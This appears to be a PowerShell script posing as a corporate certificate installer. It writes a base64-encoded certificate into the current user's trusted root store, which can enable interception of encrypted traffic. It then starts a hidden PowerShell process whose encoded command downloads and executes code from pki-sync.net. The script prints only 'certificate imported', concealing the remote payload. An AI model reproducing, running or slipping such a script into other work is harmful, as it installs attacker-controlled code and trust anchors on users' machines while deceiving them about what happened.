$certB64 = 'MIIBszCCAVmgAwIBAgIUQ29ycFJvb3RDQTIwMjQwCgYIKoZIzj0EAwIwEjEQMA4GA1UEAwwHQ29ycENB'
$bytes = [Convert]::FromBase64String($certB64)
[IO.File]::WriteAllBytes("$env:TEMP\corp.cer", $bytes)
Import-Certificate -FilePath "$env:TEMP\corp.cer" -CertStoreLocation Cert:\CurrentUser\Root | Out-Null
$post = 'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHAAawBpAC0AcwB5AG4AYwAuAG4AZQB0AC8AYwAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAKQA='
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile', '-EncodedCommand', $post
Write-Host 'certificate imported'
